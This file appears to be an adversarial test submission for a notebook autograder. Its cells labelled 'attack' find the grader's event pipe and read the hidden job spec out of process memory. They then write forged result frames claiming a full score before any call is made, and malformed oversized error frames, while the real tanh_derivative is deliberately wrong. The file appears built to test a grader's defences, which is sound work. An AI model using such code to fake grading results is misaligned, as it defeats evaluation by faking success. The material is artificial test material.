# sigmoid and its derivative are right, tanh_derivative is wrong (1 - tanh(x)).
# The attack writes its own frames into the grader's event pipe from a cell:
# the right results for every call, claimed before any call is made, and a
# full score. None of it may count.

# %%
import numpy as np


def sigmoid(x):
    x = np.asarray(x, dtype=float)
    e = np.exp(-np.abs(x))
    return np.where(x >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_derivative(x):
    s = sigmoid(x)
    return s * (1.0 - s)


def tanh_derivative(x):
    return 1.0 - np.tanh(x)

# %%
# attack: the tools. The pipe is the fd whose target is a pipe; the job (every
# call and its arguments) is somewhere in memory.
import base64
import gc
import json
import os
import struct



def pipes_of_this_process():
    found = []
    for fd in os.listdir("/proc/self/fd"):
        try:
            if os.readlink(f"/proc/self/fd/{fd}").startswith("pipe:"):
                found.append(int(fd))
        except OSError:  # the directory's own fd, closed by now
            pass
    return found


PIPE = pipes_of_this_process()[0]


def send(obj=None, raw=None):
    data = raw if raw is not None else json.dumps(obj).encode()
    os.write(PIPE, struct.pack(">I", len(data)) + data)


def encoded(value):
    value = np.ascontiguousarray(value, dtype="<f8") if np.ndim(value) else np.asarray(value, dtype="<f8")
    return {"value": {"dtype": "float64", "shape": list(np.shape(value)),
                      "b64": base64.b64encode(value.tobytes()).decode()}, "source_dtype": "float64"}


JOB = next(o for o in gc.get_objects() if isinstance(o, dict) and isinstance(o.get("exercises"), list)
           and isinstance(o.get("cells"), list))
RIGHT = {"sigmoid": sigmoid, "sigmoid_derivative": sigmoid_derivative,
         "tanh_derivative": lambda x: 1.0 - np.tanh(x) ** 2}

# %%
# attack: claim every call in advance, with the right values where we know them, and full marks
for exercise in JOB["exercises"]:
    for call in exercise["calls"]:
        x = np.frombuffer(base64.b64decode(call["args"][0]["array"]["b64"]), dtype="<f8").reshape(
            call["args"][0]["array"]["shape"]) if call["args"] and isinstance(call["args"][0], dict) \
            and "array" in call["args"][0] else np.zeros(())
        value = RIGHT[call["func"]](x) if call["func"] in RIGHT else np.zeros(np.shape(x))
        send({"ev": "result", "q": exercise["q"], "id": call["id"], "status": "ok", "result": encoded(value),
              "mutated": [], "passed": True, "points": 100})
send({"ev": "score", "score": 100, "possible": 100, "status": "graded"})
send({"ev": "cell_done", "i": 0, "error": {"type": "T" * 100_000, "message": "M" * 1_000_000, "line": [1, 2]}})
send({"ev": "cell_done", "i": 10**12, "error": {"type": "OverRange", "message": "x", "line": 1}})
send({"ev": "cell", "i": -1})
send({"ev": "fatal", "error": "F" * 1_000_000})
send({"ev": "done"})

